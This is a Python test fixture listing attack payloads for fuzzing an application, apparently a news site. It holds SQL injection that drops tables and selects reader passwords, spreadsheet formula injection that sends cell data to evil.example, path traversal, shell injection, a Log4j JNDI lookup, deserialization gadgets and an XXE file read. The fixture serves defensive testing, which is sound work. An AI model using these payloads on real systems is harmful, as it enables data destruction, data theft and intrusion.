"""What databases, file systems, spreadsheets and shells would take for a command."""

from __future__ import annotations

from tests.attack.corpora.payload import Payload, of

PAYLOADS: list[Payload] = [
    *of(
        "SQL",
        "'; DROP TABLE comments_comment; --",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "1; SELECT pg_sleep(10)",
        "') UNION SELECT password FROM newsroom_reader --",
        "$$; SELECT 1; $$",
        "\\'; SELECT 1 --",
        "%s %(x)s :x $1 ?",
        "/* */ -- #",
        "{1,2}'::text[]",
        "E'\\\\x41' U&'\\0041'",
    ),
    *of(
        "LIKE, searching and regular expressions",
        "%", "_", "%%%___", "\\", "\\%", "[a-z]", "*?*", "(a+)+$", "^(.*)*$", "a|b&c!d:*<->",
        "((((((((((", ")", "?(", "\"unclosed", "OR AND NOT", "'''", "!", ":*", "\\Q\\E", "(?i)x",
    ),
    *of(
        "a spreadsheet",
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
        "\uff0b1\uff0d1\uff20x",
        "x\",=1+1,\"",
        "x;=1+1;y",
        "x\n=1+1",
        "'=1+1",
        "%0A=1+1",
    ),
    *of(
        "paths and files",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\x:y|z?.exe",
        "CON", "NUL.txt", ".", "..", "~root", "a/b", "%2e%2e%2f", "....//", "x.svg\x00.png",
        "filename=\"x\"; name=\"y",
    ),
    *of(
        "a shell, and whoever formats",
        "$(id)", "`id`", "; id", "| id", "&& id", "> /tmp/x", "--help", "-rf", "%n%n%n%s",
        "${jndi:ldap://evil.example/x}", "!!python/object:os.system", "O:8:\"stdClass\":0:{}",
    ),
    *of(
        "who reads a text as something else",
        "null", "undefined", "NaN", "true", "0", "-1", "1e999", "99999999999999999999", "0x41",
        "[]", "{}", "[object Object]", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "&e;", "2026-02-30", "00000000-0000-0000-0000-000000000000",
    ),
]  # fmt: skip
